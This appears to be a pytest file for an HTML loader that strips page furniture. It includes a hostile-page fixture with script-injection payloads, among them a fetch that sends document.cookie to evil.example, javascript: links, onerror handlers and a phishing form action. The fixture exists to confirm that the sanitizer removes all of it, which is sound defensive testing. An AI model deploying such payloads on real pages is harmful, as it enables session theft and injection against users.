"""The HTML loader keeps a web page's main content only, as clean blocks; quotes are slices of its text.

Real pages from ../shared/realdocs plus small pages written here in the shape of the sites staff ingest
(Wikipedia, GOV.UK, NHS) and a hostile page.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from ingest import html as html_module
from ingest.html import looks_like_html, read_html
from ingest.structure import LoadedDocument, LoadError

REALDOCS = Path(__file__).resolve().parents[3] / "shared" / "realdocs"
HAYSTACK = REALDOCS / "what_is_haystack.html"
ESSAY = REALDOCS / "paul_graham_superlinear.html"


def texts(document: LoadedDocument, kind: str | None = None) -> list[str]:
    return [document.text[b.start : b.end] for b in document.blocks if kind is None or b.kind == kind]


def headings(document: LoadedDocument) -> list[tuple[int, str]]:
    return [(b.level, document.text[b.start : b.end]) for b in document.blocks if b.kind == "heading"]


def assert_blocks_sound(document: LoadedDocument) -> None:
    """Every block is a non-empty, stripped slice; blocks are in order and never overlap."""
    previous_end = 0
    for block in document.blocks:
        piece = document.text[block.start : block.end]
        assert piece and piece == piece.strip()
        assert block.start >= previous_end
        previous_end = block.end
        assert (block.level > 0) == (block.kind == "heading")


@pytest.fixture(scope="module")
def haystack() -> LoadedDocument:
    return read_html(HAYSTACK.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def essay() -> LoadedDocument:
    return read_html(ESSAY.read_text(encoding="utf-8"))


# --- the documentation page -------------------------------------------------------------------


@pytest.mark.parametrize(
    "furniture",
    [
        "Quick Start", "Use Cases", "Roadmap", "PromptHub", "NLP Resources", "Benchmarks", "deepset Blog",
        "Get Started", "Hacktoberfest", "GitHub Discussions", "Open NLP Meetup", "Sign up for community updates",
        "Email address", "By submitting my email", "Building a semantic layer", "© 2023 deepset GmbH", "Imprint",
        "Privacy", "Join Discord", "Close menu",
    ],
)  # fmt: skip
def test_documentation_page_drops_navigation_menus_and_footer(haystack: LoadedDocument, furniture: str) -> None:
    assert furniture not in haystack.text


@pytest.mark.parametrize(
    "sentence",
    [
        "Haystack is the open source Python framework by deepset for building custom apps with large language "
        "models (LLMs).",
        "Our inspiring community of users and builders has helped shape Haystack into what it is today: a complete "
        "framework for building production-ready NLP apps.",
        "A successful NLP project requires more than just the language models.",
        "You can chain components together to build pipelines, which are the foundation of the NLP app architecture "
        "in Haystack.",
        "When given a query, the Agent determines which tools are useful to answer this query and calls them in a "
        "loop until it gets the answer.",
        "You don’t need to understand how the models work under the hood.",
        "We also organize live online and in-person events, webinars, and office hours, which are an opportunity to "
        "learn and grow.",
    ],
)
def test_documentation_page_keeps_body_sentences_whole(haystack: LoadedDocument, sentence: str) -> None:
    assert sentence in haystack.text


def test_documentation_page_headings_lists_and_title(haystack: LoadedDocument) -> None:
    assert haystack.title == "What is Haystack?"
    assert headings(haystack) == [
        (1, "What is Haystack?"),
        (2, "Building with Haystack"),
        (2, "Functionality for all stages of an NLP project"),
        (2, "Building blocks"),
        (3, "Components"),
        (3, "Pipelines"),
        (3, "Agents"),
        (2, "Who’s it for?"),
        (2, "Our community"),
        (2, "Enter the Haystack universe"),
    ]
    bullets = texts(haystack, "bullet")
    assert "Create dynamic templates for LLM prompting" in bullets
    assert "Semantic search on a large collection of documents in any language" in bullets
    assert haystack.text.count("Haystack offers comprehensive tooling") == 1  # the table of contents is gone
    assert_blocks_sound(haystack)


# --- the essay: prose in a layout table, paragraphs split by <br><br> ------------------------------


def test_essay_title_and_whole_paragraphs(essay: LoadedDocument) -> None:
    assert essay.title == "Superlinear Returns"
    paragraphs = texts(essay, "paragraph")
    assert (
        'Teachers and coaches implicitly told us the returns were linear. "You get out," I heard a thousand '
        'times, "what you put in." They meant well, but this is rarely true. If your product is only half as '
        "good as your competitor's, you don't get half as many customers. You get no customers, and you go out of "
        "business."
    ) in paragraphs
    assert "Even after decades of thinking about this, I find that sentence startling." in paragraphs
    assert any(p.startswith("The territory of superlinear returns is by no means static.") for p in paragraphs)
    assert len(paragraphs) > 50  # one block per paragraph, not one per layout-table cell
    assert not any(" | " in p for p in paragraphs)  # the layout table is not read as a data table
    assert_blocks_sound(essay)


def test_essay_note_markers_leave_the_sentences(essay: LoadedDocument) -> None:
    assert any(p.endswith("In all of these, the rich get richer.") for p in texts(essay, "paragraph"))
    assert not re.search(r"[a-z][.!?] ?\[\d+\]", essay.text)  # no "richer. [1]" left inside a paragraph
    assert any(p.startswith("[1] Evolution itself") for p in texts(essay))  # the author's notes stay, numbered


# --- a Wikipedia-shaped page ----------------------------------------------------------------------

WIKIPEDIA_PAGE = """<!DOCTYPE html>
<html class="client-nojs" lang="en" dir="ltr">
<head><meta charset="UTF-8"/><title>Riverside Care Home - Wikipedia</title>
<script>RLCONF={"wgTitle":"Riverside Care Home","wgAction":"view"};</script>
<link rel="stylesheet" href="/w/load.php?modules=site.styles"/></head>
<body class="mediawiki ltr skin-vector action-view">
<div id="mw-page-base" class="noprint"></div>
<div id="content" class="mw-body" role="main">
  <a id="top"></a>
  <div id="siteNotice" class="mw-body-content"><!-- CentralNotice --></div>
  <h1 id="firstHeading" class="firstHeading" lang="en">Riverside Care Home</h1>
  <div id="bodyContent" class="mw-body-content">
    <div id="siteSub" class="noprint">From Wikipedia, the free encyclopedia</div>
    <a class="mw-jump-link" href="#mw-head">Jump to navigation</a>
    <a class="mw-jump-link" href="#searchInput">Jump to search</a>
    <div id="mw-content-text" lang="en" dir="ltr" class="mw-content-ltr"><div class="mw-parser-output">
      <div class="shortdescription nomobile noexcerpt noprint searchaux" style="display:none">Care home in England</div>
      <div role="note" class="hatnote navigation-not-searchable">For the hospital of the same name, see
        <a href="/wiki/Riverside_Hospital" title="Riverside Hospital">Riverside Hospital</a>.</div>
      <table class="infobox vcard"><caption class="infobox-title fn">Riverside Care Home</caption><tbody>
        <tr><th scope="row" class="infobox-label">Location</th><td class="infobox-data">Exampleton, England</td></tr>
        <tr><th scope="row" class="infobox-label">Beds</th><td class="infobox-data">64</td></tr>
        <tr><th scope="row" class="infobox-label">Operator</th><td class="infobox-data">Meadow Trust</td></tr>
      </tbody></table>
      <p><b>Riverside Care Home</b> is a residential care home in Exampleton that provides nursing care for up
        to 64 older people.<sup id="cite_ref-cqc_1-0" class="reference"><a href="#cite_note-cqc-1">&#91;1&#93;</a></sup>
        It was rated good overall in its 2019 inspection.<sup id="cite_ref-2" class="reference"><a
        href="#cite_note-2">&#91;2&#93;</a></sup><sup class="noprint Inline-Template Template-Fact"
        style="white-space:nowrap;">&#91;<i><a href="/wiki/Wikipedia:Citation_needed"
        title="Wikipedia:Citation needed"><span title="This claim needs references.">citation
  needed</span></a></i>&#93;</sup>
        Residents have their own rooms with views of the river.</p>
      <div id="toc" class="toc" role="navigation" aria-labelledby="mw-toc-heading">
        <div class="toctitle"><h2 id="mw-toc-heading">Contents</h2></div>
        <ul><li class="toclevel-1 tocsection-1"><a href="#History"><span class="tocnumber">1</span>
          <span class="toctext">History</span></a></li>
        <li class="toclevel-1 tocsection-2"><a href="#Inspection_ratings"><span class="tocnumber">2</span>
          <span class="toctext">Inspection ratings</span></a></li></ul>
      </div>
      <h2><span class="mw-headline" id="History">History</span><span class="mw-editsection"><span
        class="mw-editsection-bracket">[</span><a
  href="/w/index.php?title=Riverside_Care_Home&amp;action=edit&amp;section=1"
        title="Edit section: History">edit</a><span class="mw-editsection-bracket">]</span></span></h2>
      <div class="thumb tright"><div class="thumbinner"><a href="/wiki/File:Mill.jpg" class="image"><img
        alt="" src="//upload.wikimedia.org/Mill.jpg" width="220" height="147"/></a>
        <div class="thumbcaption">The converted mill in 2010</div></div></div>
      <p>The home opened in 1987 in a converted Victorian mill.<sup class="reference"><a
        href="#cite_note-cqc-1">&#91;1&#93;</a></sup> A new wing for people living with dementia was added in
        2004.<sup class="reference"><a href="#cite_note-3">&#91;3&#93;</a></sup></p>
      <h2><span class="mw-headline" id="Inspection_ratings">Inspection ratings</span><span class="mw-editsection"><span
        class="mw-editsection-bracket">[</span><a href="/w/index.php?action=edit&amp;section=2">edit</a><span
        class="mw-editsection-bracket">]</span></span></h2>
      <p>The table below lists the ratings from the regulator's inspections.</p>
      <table class="wikitable sortable">
        <tbody><tr><th>Year</th><th>Safe</th><th>Well-led</th><th>Overall</th></tr>
        <tr><td>2016</td><td>Requires improvement</td><td>Inadequate</td><td>Requires improvement</td></tr>
        <tr><td>2019</td><td>Good</td><td>Good</td><td>Good</td></tr></tbody>
      </table>
      <h2><span class="mw-headline" id="See_also">See also</span><span class="mw-editsection">[<a
        href="/w/index.php?action=edit&amp;section=3">edit</a>]</span></h2>
      <ul><li><a href="/wiki/Care_homes_in_the_United_Kingdom">Care homes in the United Kingdom</a></li>
        <li><a href="/wiki/Care_Quality_Commission">Care Quality Commission</a></li></ul>
      <h2><span class="mw-headline" id="References">References</span><span class="mw-editsection">[<a
        href="/w/index.php?action=edit&amp;section=4">edit</a>]</span></h2>
      <div class="reflist" style="list-style-type: decimal;"><div class="mw-references-wrap"><ol class="references">
        <li id="cite_note-cqc-1"><span class="mw-cite-backlink">^ <a
  href="#cite_ref-cqc_1-0"><sup><i><b>a</b></i></sup></a>
          <a href="#cite_ref-cqc_1-1"><sup><i><b>b</b></i></sup></a></span> <span class="reference-text"><cite
          class="citation web">"Riverside Care Home inspection report". <i>Care Quality Commission</i>. Retrieved
          3 March 2020.</cite></span></li>
        <li id="cite_note-2"><span class="mw-cite-backlink"><b><a href="#cite_ref-2">^</a></b></span>
          <span class="reference-text">Smith, Jane (2019). "Care in the county". <i>Exampleton Gazette</i>.</span></li>
        <li id="cite_note-3"><span class="mw-cite-backlink"><b><a href="#cite_ref-3">^</a></b></span>
          <span class="reference-text">"Dementia wing opens". <i>Exampleshire Herald</i>. 12 May 2004.</span></li>
      </ol></div></div>
      <h2><span class="mw-headline" id="External_links">External links</span></h2>
      <ul><li><a rel="nofollow" class="external text" href="https://riverside.example">Official website</a></li></ul>
      <div role="navigation" class="navbox" aria-labelledby="Care_homes_in_Exampleshire"><table
        class="nowraplinks hlist navbox-inner"><tbody><tr><th scope="col" class="navbox-title" colspan="2"><div
        id="Care_homes_in_Exampleshire">Care homes in Exampleshire</div></th></tr>
        <tr><th scope="row" class="navbox-group">North</th><td class="navbox-list"><div><ul>
          <li><a href="/wiki/Hilltop_House">Hilltop House</a></li><li><a href="/wiki/Meadow_View">Meadow View</a></li>
        </ul></div></td></tr></tbody></table></div>
    </div></div>
    <div id="catlinks" class="catlinks" data-mw="interface"><div id="mw-normal-catlinks" class="mw-normal-catlinks"><a
      href="/wiki/Help:Category" title="Help:Category">Categories</a>: <ul><li><a
  href="/wiki/Category:Nursing_homes">Nursing
      homes in England</a></li></ul></div></div>
  </div>
</div>
<div id="mw-navigation"><h2>Navigation menu</h2>
  <div id="mw-head"><div id="p-personal" role="navigation"><ul><li id="pt-login"><a href="/login">Log
  in</a></li></ul></div></div>
  <div id="mw-panel"><div class="portal" role="navigation" id="p-navigation"><h3>Navigation</h3><div class="body"><ul>
    <li><a href="/wiki/Main_Page">Main page</a></li><li><a href="/wiki/Special:Random">Random article</a></li>
  </ul></div></div></div>
</div>
<div id="footer" role="contentinfo" class="mw-footer"><ul id="footer-info">
  <li id="footer-info-lastmod"> This page was last edited on 4 March 2020, at 10:12<span
  class="anonymous-show">&#160;(UTC)</span>.</li>
  <li id="footer-info-copyright">Text is available under the <a
  href="//creativecommons.org/licenses/by-sa/3.0/">Creative
    Commons Attribution-ShareAlike License</a>; additional terms may apply.</li></ul>
  <ul id="footer-places"><li><a href="/wiki/Privacy_policy">Privacy policy</a></li><li><a href="/wiki/About">About
  Wikipedia</a></li></ul>
</div>
<div class="mw-cookiewarning-container"><div class="mw-cookiewarning-text"><span>Cookies help us deliver our
  services. By
  using our services, you agree to our use of cookies.</span></div><form method="POST"><button>OK</button></form></div>
</body></html>
"""


@pytest.fixture(scope="module")
def wikipedia() -> LoadedDocument:
    return read_html(WIKIPEDIA_PAGE)


@pytest.mark.parametrize(
    "furniture",
    [
        "[1]", "[2]", "[3]", "citation needed", "[edit]", "edit", "From Wikipedia", "Jump to", "Care home in England",
        "For the hospital", "Exampleton, England", "Meadow Trust", "Contents", "See also", "Care homes in the United",
        "References", "^", "Retrieved", "Exampleton Gazette", "Exampleshire Herald", "External links",
        "Official website", "Care homes in Exampleshire", "Hilltop House", "Categories", "Nursing homes",
        "Navigation menu", "Log in", "Main page", "Random article", "last edited", "Creative Commons",
        "Privacy policy", "Cookies help us", "RLCONF",
    ],
)  # fmt: skip
def test_wikipedia_page_drops_references_navboxes_and_furniture(wikipedia: LoadedDocument, furniture: str) -> None:
    assert furniture not in wikipedia.text


def test_wikipedia_page_body_without_markers_and_table_rows(wikipedia: LoadedDocument) -> None:
    assert wikipedia.title == "Riverside Care Home"
    paragraphs = texts(wikipedia, "paragraph")
    assert paragraphs[0] == (
        "Riverside Care Home is a residential care home in Exampleton that provides nursing care for up to 64 "
        "older people. It was rated good overall in its 2019 inspection. Residents have their own rooms with "
        "views of the river."
    )
    assert "The home opened in 1987 in a converted Victorian mill. A new wing for people living with dementia was " \
        "added in 2004." in paragraphs  # fmt: skip
    assert "Year | Safe | Well-led | Overall" in paragraphs
    assert "2016 | Requires improvement | Inadequate | Requires improvement" in paragraphs
    assert "2019 | Good | Good | Good" in paragraphs
    assert headings(wikipedia) == [(1, "Riverside Care Home"), (2, "History"), (2, "Inspection ratings")]
    assert_blocks_sound(wikipedia)


# --- GOV.UK- and NHS-shaped pages ----------------------------------------------------------------

GOVUK_PAGE = """<!DOCTYPE html>
<html lang="en" class="govuk-template"><head><meta charset="utf-8">
<title>Safe staffing in adult social care: guidance for providers - GOV.UK</title>
<script src="/assets/static/govuk-frontend.js" type="module"></script></head>
<body class="govuk-template__body">
<script>document.body.className += ' js-enabled';</script>
<div id="global-cookie-message" class="gem-c-cookie-banner govuk-clearfix" data-module="cookie-banner" role="region"
  aria-label="Cookies on GOV.UK">
  <div class="govuk-cookie-banner js-banner-wrapper" role="region" aria-label="Cookies on GOV.UK">
    <div class="gem-c-cookie-banner__message govuk-cookie-banner__message govuk-width-container">
      <h2 class="govuk-cookie-banner__heading govuk-heading-m">Cookies on GOV.UK</h2>
      <div class="govuk-cookie-banner__content"><p class="govuk-body">We use some essential cookies to make this
        website work.</p><p class="govuk-body">We’d like to set additional cookies to understand how you use
        GOV.UK.</p></div>
      <div class="govuk-button-group"><button class="govuk-button" type="submit" data-accept-cookies="true">Accept
        additional cookies</button><button class="govuk-button" type="submit" data-reject-cookies="true">Reject
        additional cookies</button><a class="govuk-link" href="/help/cookies">View cookies</a></div>
    </div>
  </div>
</div>
<a href="#main-content" class="govuk-skip-link" data-module="govuk-skip-link">Skip to main content</a>
<header role="banner" class="gem-c-layout-super-navigation-header">
  <a href="https://www.gov.uk/" class="govuk-header__link govuk-header__link--homepage"><span
    class="govuk-header__logotype-text">GOV.UK</span></a>
  <nav aria-labelledby="super-navigation-menu-heading" class="gem-c-layout-super-navigation-header__content">
    <h2 id="super-navigation-menu-heading" class="govuk-visually-hidden">Navigation menu</h2>
    <button type="button" class="gem-c-layout-super-navigation-header__navigation-top-toggle-button">Menu</button>
    <ul><li><a href="/browse/benefits">Benefits</a></li><li><a href="/browse/business">Business and
  self-employed</a></li></ul>
  </nav>
</header>
<div class="govuk-width-container">
  <div class="gem-c-phase-banner govuk-phase-banner"><p class="govuk-phase-banner__content"><strong
    class="govuk-tag govuk-phase-banner__content__tag">Beta</strong><span class="govuk-phase-banner__text">This part
    of GOV.UK is being rebuilt – find out what beta means</span></p></div>
  <nav class="gem-c-breadcrumbs govuk-breadcrumbs" aria-label="Breadcrumb"><ol class="govuk-breadcrumbs__list">
    <li class="govuk-breadcrumbs__list-item"><a class="govuk-breadcrumbs__link" href="/">Home</a></li>
    <li class="govuk-breadcrumbs__list-item"><a class="govuk-breadcrumbs__link" href="/health-and-social-care">Health
  and
      social care</a></li></ol></nav>
  <main class="govuk-main-wrapper" id="main-content" role="main" lang="en">
    <div class="govuk-grid-row"><div class="govuk-grid-column-two-thirds">
      <span class="govuk-caption-xl gem-c-title__context">Guidance</span>
      <h1 class="gem-c-title__text govuk-heading-l">Safe staffing in adult social care: guidance for providers</h1>
      <p class="gem-c-lead-paragraph">How care providers should plan, review and record staffing levels so that
        people receive safe care.</p>
    </div></div>
    <div class="gem-c-metadata" data-module="gem-toggle"><dl>
      <dt class="gem-c-metadata__term">From:</dt><dd class="gem-c-metadata__definition"><a href="/cqc">Care Quality
        Commission</a></dd>
      <dt class="gem-c-metadata__term">Published</dt><dd class="gem-c-metadata__definition">3 March 2020</dd>
      <dt class="gem-c-metadata__term">Last updated</dt><dd class="gem-c-metadata__definition">12 June 2021 —
        <a href="#full-publication-update-history">See all updates</a></dd></dl></div>
    <div class="govuk-grid-row"><div class="govuk-grid-column-two-thirds">
      <aside class="gem-c-contents-list" role="complementary"><h2 class="gem-c-contents-list__title">Contents</h2>
        <ol class="gem-c-contents-list__list"><li><a href="#planning-staffing">Planning staffing</a></li>
        <li><a href="#agency-staff">Agency staff</a></li></ol></aside>
      <div class="gem-c-govspeak govuk-govspeak">
        <h2 id="planning-staffing">Planning staffing</h2>
        <p>Providers must deploy enough suitably qualified staff to meet people’s needs at all times.</p>
        <p>You should review staffing levels:</p>
        <ul><li>at least every month</li><li>whenever a person’s needs change</li></ul>
        <h3 id="night-staffing">Night staffing</h3>
        <p>At night there must be at least two waking staff in any home with more than 20 residents.</p>
        <table><thead><tr><th scope="col">Residents</th><th scope="col">Minimum waking staff at night</th></tr></thead>
        <tbody><tr><td>Up to 20</td><td>1</td></tr><tr><td>21 to 40</td><td>2</td></tr></tbody></table>
        <h2 id="agency-staff">Agency staff</h2>
        <p>Agency staff must receive an induction before their first shift.</p>
      </div>
      <div class="gem-c-published-dates" id="full-publication-update-history"><p>Published 3 March 2020<br>Last
        updated 12 June 2021</p></div>
      <div class="gem-c-print-link govuk-!-display-none-print"><button class="govuk-link
        gem-c-print-link__button">Print this page</button></div>
    </div>
    <div class="govuk-grid-column-one-third"><div class="gem-c-contextual-sidebar"><div
      class="gem-c-related-navigation"><h2 class="gem-c-related-navigation__main-heading">Related content</h2>
      <nav><ul><li><a href="/guidance/fire-safety">Fire safety in care homes</a></li></ul></nav></div></div></div>
    </div>
  </main>
</div>
<div class="gem-c-feedback govuk-!-display-none-print" data-module="feedback">
  <div class="gem-c-feedback__prompt"><h2 class="gem-c-feedback__prompt-question">Is this page useful?</h2>
  <ul><li><button class="govuk-button">Yes</button></li><li><button class="govuk-button">No</button></li></ul>
  <button class="govuk-button js-something-is-wrong">Report a problem with this page</button></div>
</div>
<footer class="gem-c-layout-footer govuk-footer" role="contentinfo"><div class="govuk-width-container">
  <h2 class="govuk-footer__heading govuk-heading-m">Services and information</h2>
  <ul class="govuk-footer__list"><li><a class="govuk-footer__link" href="/browse/benefits">Benefits</a></li></ul>
  <span class="govuk-footer__licence-description">All content is available under the <a class="govuk-footer__link"
    href="https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/" rel="license">Open Government
    Licence v3.0</a>, except where otherwise stated</span>
  <a class="govuk-footer__link govuk-footer__copyright-logo" href="/crown-copyright">© Crown copyright</a>
</div></footer>
</body></html>
"""

NHS_PAGE = """<!DOCTYPE html><html lang="en"><head><title>Pressure ulcers (pressure sores) - NHS</title></head>
<body class="js-enabled">
<div id="nhsuk-cookie-banner"><div class="nhsuk-cookie-banner" id="cookiebanner"><div class="nhsuk-width-container">
  <h2>Cookies on the NHS website</h2><p>We've put some small files called cookies on your device to make our site
  work.</p><ul><li><button class="nhsuk-button" id="nhsuk-cookie-banner__link_accept_analytics">I'm OK with analytics
  cookies</button></li><li><button class="nhsuk-button" id="nhsuk-cookie-banner__link_accept">Do not use analytics
  cookies</button></li></ul></div></div></div>
<a class="nhsuk-skip-link" href="#maincontent">Skip to main content</a>
<header class="nhsuk-header" role="banner"><div class="nhsuk-header__container"><a class="nhsuk-header__link"
  href="/" aria-label="NHS homepage"><span>NHS</span></a><div class="nhsuk-header__search"><form
  class="nhsuk-header__search-form" role="search"><label for="search-field">Search the NHS website</label><input
  id="search-field" type="search"><button type="submit">Search</button></form></div></div>
  <nav class="nhsuk-header__navigation" id="header-navigation" role="navigation"><ul
  class="nhsuk-header__navigation-list"><li><a href="/conditions/">Health A to Z</a></li><li><a href="/live-well/">Live
  Well</a></li></ul></nav></header>
<nav class="nhsuk-breadcrumb" aria-label="Breadcrumb"><ol class="nhsuk-breadcrumb__list"><li
  class="nhsuk-breadcrumb__item"><a class="nhsuk-breadcrumb__link" href="/">Home</a></li><li
  class="nhsuk-breadcrumb__item"><a class="nhsuk-breadcrumb__link" href="/conditions/">Health A to Z</a></li></ol></nav>
<div class="nhsuk-width-container"><main class="nhsuk-main-wrapper" id="maincontent" role="main">
  <h1>Pressure ulcers (pressure sores)</h1>
  <p class="nhsuk-lede-text">Pressure ulcers are injuries to the skin and underlying tissue, caused by prolonged
    pressure on the skin.</p>
  <section><h2>Check if it's a pressure ulcer</h2>
  <p>Early symptoms of a pressure ulcer include discoloured patches of skin that do not turn white when pressed.</p>
  <div class="nhsuk-accordion"><details class="nhsuk-details"><summary class="nhsuk-details__summary">Who is more
    likely to get pressure ulcers</summary><div class="nhsuk-details__text" hidden="until-found"><p>People who spend
    most of the day in a bed or chair are more likely to get pressure ulcers.</p></div></details></div>
  </section>
  <div class="nhsuk-care-card nhsuk-care-card--urgent"><div class="nhsuk-care-card__heading-container"><h3
    class="nhsuk-care-card__heading">Ask for an urgent GP appointment if:</h3></div><div
    class="nhsuk-care-card__content"><ul><li>you have a pressure ulcer and a high temperature</li></ul></div></div>
  <div class="nhsuk-review-date"><p class="nhsuk-body-s">Page last reviewed: 12 March 2023<br>Next review due: 12
    March 2026</p></div>
</main></div>
<footer role="contentinfo"><div class="nhsuk-footer" id="nhsuk-footer"><h2 class="nhsuk-u-visually-hidden">Support
  links</h2><ul class="nhsuk-footer__list"><li><a href="/nhs-sites/">NHS sites</a></li><li><a
  href="/about-us/">About us</a></li><li><a href="/contact-us/">Contact us</a></li></ul><p
  class="nhsuk-footer__copyright">© NHS England</p></div></footer>
</body></html>
"""


@pytest.mark.parametrize(
    "furniture",
    [
        "Cookies on GOV.UK", "essential cookies", "Accept additional cookies", "View cookies", "Skip to main content",
        "Navigation menu", "Menu", "Benefits", "Business and self-employed", "Beta", "being rebuilt", "Home",
        "Health and social care", "Guidance", "From:", "Published", "Last updated", "12 June 2021", "See all updates",
        "Contents", "Print this page", "Related content", "Fire safety in care homes", "Is this page useful?",
        "Report a problem", "Services and information", "Open Government Licence", "Crown copyright",
    ],
)  # fmt: skip
def test_govuk_page_keeps_only_main_content(furniture: str) -> None:
    assert furniture not in read_html(GOVUK_PAGE).text


def test_govuk_page_main_content() -> None:
    document = read_html(GOVUK_PAGE)
    assert document.title == "Safe staffing in adult social care: guidance for providers"
    assert headings(document) == [
        (1, "Safe staffing in adult social care: guidance for providers"),
        (2, "Planning staffing"),
        (3, "Night staffing"),
        (2, "Agency staff"),
    ]
    assert texts(document) == [
        "Safe staffing in adult social care: guidance for providers",
        "How care providers should plan, review and record staffing levels so that people receive safe care.",
        "Planning staffing",
        "Providers must deploy enough suitably qualified staff to meet people’s needs at all times.",
        "You should review staffing levels:",
        "at least every month",
        "whenever a person’s needs change",
        "Night staffing",
        "At night there must be at least two waking staff in any home with more than 20 residents.",
        "Residents | Minimum waking staff at night",
        "Up to 20 | 1",
        "21 to 40 | 2",
        "Agency staff",
        "Agency staff must receive an induction before their first shift.",
    ]
    assert texts(document, "bullet") == ["at least every month", "whenever a person’s needs change"]
    assert_blocks_sound(document)


@pytest.mark.parametrize(
    "furniture",
    [
        "Cookies on the NHS website", "small files called cookies", "analytics cookies", "Skip to main content",
        "Search the NHS website", "Health A to Z", "Live Well", "Home", "Page last reviewed", "Next review due",
        "Support links", "NHS sites", "About us", "© NHS England",
    ],
)  # fmt: skip
def test_nhs_page_keeps_only_main_content(furniture: str) -> None:
    assert furniture not in read_html(NHS_PAGE).text


def test_nhs_page_keeps_collapsed_accordion_text_and_care_card() -> None:
    document = read_html(NHS_PAGE)
    assert document.title == "Pressure ulcers (pressure sores)"
    assert "People who spend most of the day in a bed or chair are more likely to get pressure ulcers." in texts(
        document
    )
    assert "you have a pressure ulcer and a high temperature" in texts(document, "bullet")
    assert (3, "Ask for an urgent GP appointment if:") in headings(document)
    assert_blocks_sound(document)


# --- hostile HTML ---------------------------------------------------------------------------------

HOSTILE_PAGE = """<!doctype html><html><head><title>Inspection of Oak Lodge</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url("javascript:alert('STYLE')") } .x::after { content: "STYLE-TEXT" }</style>
<script>document.cookie; fetch("https://evil.example/steal?" + document.cookie); /* SCRIPT-TEXT */</script>
</head><body onload="alert('BODY-ONLOAD')">
<main>
<h1 onclick="alert('H1')">Inspection of Oak Lodge</h1>
<p>Inspectors visited Oak Lodge on 4 May <img src="x" onerror="alert('IMG-ONERROR')">and found the medicines room
  locked.<svg onload="alert('SVG')"><text>SVG-TEXT</text></svg></p>
<p>Staff explained the <a href="javascript:alert('LINK')">complaints procedure</a> to every resident.</p>
<p><a href="JaVaScRiPt:alert('CONTROL')">Click here</a></p>
<iframe src="https://evil.example/frame" srcdoc="&lt;script&gt;alert('SRCDOC')&lt;/script&gt;">IFRAME-TEXT</iframe>
<object data="evil.swf">OBJECT-TEXT</object><embed src="evil.swf">
<template><p>TEMPLATE-TEXT</p></template><noscript><p>NOSCRIPT-TEXT</p></noscript>
<!-- COMMENT-TEXT <script>alert('COMMENT')</script> -->
<form action="https://evil.example/login"><input value="INPUT-TEXT"><button>BUTTON-TEXT</button></form>
<p>The registered manager has worked at the home since 2015.</p>
<script type="text/javascript">alert('INLINE-SCRIPT')</script>
</main></body></html>
"""


@pytest.mark.parametrize(
    "trace",
    [
        "alert", "javascript", "JaVaScRiPt", "evil.example", "cookie", "onerror", "onload", "onclick", "STYLE",
        "SCRIPT-TEXT", "SVG", "IFRAME-TEXT", "SRCDOC", "OBJECT-TEXT", "TEMPLATE-TEXT", "NOSCRIPT-TEXT",
        "COMMENT", "INPUT-TEXT", "BUTTON-TEXT", "Click here", "<", ">", "{",
    ],
)  # fmt: skip
def test_hostile_html_leaves_no_trace(trace: str) -> None:
    assert trace not in read_html(HOSTILE_PAGE).text


def test_hostile_html_keeps_the_sentences_around_it() -> None:
    document = read_html(HOSTILE_PAGE)
    assert document.title == "Inspection of Oak Lodge"
    assert texts(document) == [
        "Inspection of Oak Lodge",
        "Inspectors visited Oak Lodge on 4 May and found the medicines room locked.",
        "Staff explained the complaints procedure to every resident.",
        "The registered manager has worked at the home since 2015.",
    ]
    assert_blocks_sound(document)


# --- when the content classifier misfires -----------------------------------------------------------

NO_LANDMARK_PAGE = """<html><head><title>Visit notes | Oak Lodge</title></head><body>
<div class="menu"><a href="/">Home</a> <a href="/about">About</a></div>
<div class="content"><h2>Visit notes</h2>
<p>The lounge carpet was worn and stained near the fire exit.</p>
<ul><li>Hoists were serviced in January.</li><li>Two call bells were out of reach.</li></ul>
<table><tr><th>Room</th><th>Finding</th></tr><tr><td>12</td><td>Call bell out of reach</td></tr>
<tr><td>14</td><td>Call bell out of reach</td></tr></table></div>
</body></html>"""


@pytest.mark.parametrize("extracted", [None, "", "The lounge carpet"])
def test_classifier_keeping_too_little_falls_back_to_the_rules(
    monkeypatch: pytest.MonkeyPatch, extracted: str | None
) -> None:
    trafilatura = pytest.importorskip("trafilatura")
    monkeypatch.setattr(trafilatura, "extract", lambda *args, **kwargs: extracted)
    document = read_html(NO_LANDMARK_PAGE)
    assert document.title == "Visit notes"
    assert texts(document) == [
        "Visit notes",
        "The lounge carpet was worn and stained near the fire exit.",
        "Hoists were serviced in January.",
        "Two call bells were out of reach.",
        "Room | Finding",
        "12 | Call bell out of reach",
        "14 | Call bell out of reach",
    ]


def test_classifier_inside_a_landmark_vetoes_only_what_is_not_prose(monkeypatch: pytest.MonkeyPatch) -> None:
    """Trafilatura often drops a lead paragraph; inside <main> it may only remove short or link-heavy pieces."""
    trafilatura = pytest.importorskip("trafilatura")
    page = """<html><body><main><h1>Night checks at Oak Lodge</h1>
    <p>Night staff checked every resident hourly and recorded each check on the new electronic system.</p>
    <h2>Findings</h2><p>Two residents were not checked between 2am and 4am on 3 May, and neither check was recorded
    as missed on the night report.</p>
    <p>The manager has since added an alarm to the system for missed checks and reviews the night report daily.</p>
    <h2>More from this provider</h2><ul><li><a href="/a">Day care report</a></li><li><a href="/b">Fees</a></li></ul>
    </main></body></html>"""
    main_text = "Findings. Two residents were not checked between 2am and 4am on 3 May, and neither check was " \
        "recorded as missed on the night report. The manager has since added an alarm to the system for missed " \
        "checks and reviews the night report daily."  # fmt: skip
    monkeypatch.setattr(trafilatura, "extract", lambda *args, **kwargs: main_text)
    assert texts(read_html(page)) == [
        "Night checks at Oak Lodge",
        "Night staff checked every resident hourly and recorded each check on the new electronic system.",
        "Findings",
        "Two residents were not checked between 2am and 4am on 3 May, and neither check was recorded as missed on "
        "the night report.",
        "The manager has since added an alarm to the system for missed checks and reviews the night report daily.",
    ]


def test_without_trafilatura_the_rules_still_read_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(html_module, "_keep_main_by_trafilatura", lambda root, pieces, **kwargs: pieces)
    document = read_html(NO_LANDMARK_PAGE)
    assert "Home" not in document.text and "About" not in document.text
    assert "12 | Call bell out of reach" in texts(document)


# --- small cases -------------------------------------------------------------------------------------


def test_title_falls_back_to_the_first_h1_and_keeps_inner_separators() -> None:
    assert read_html("<body><h1>Oak Lodge report</h1><p>Text of the report.</p></body>").title == "Oak Lodge report"
    assert (
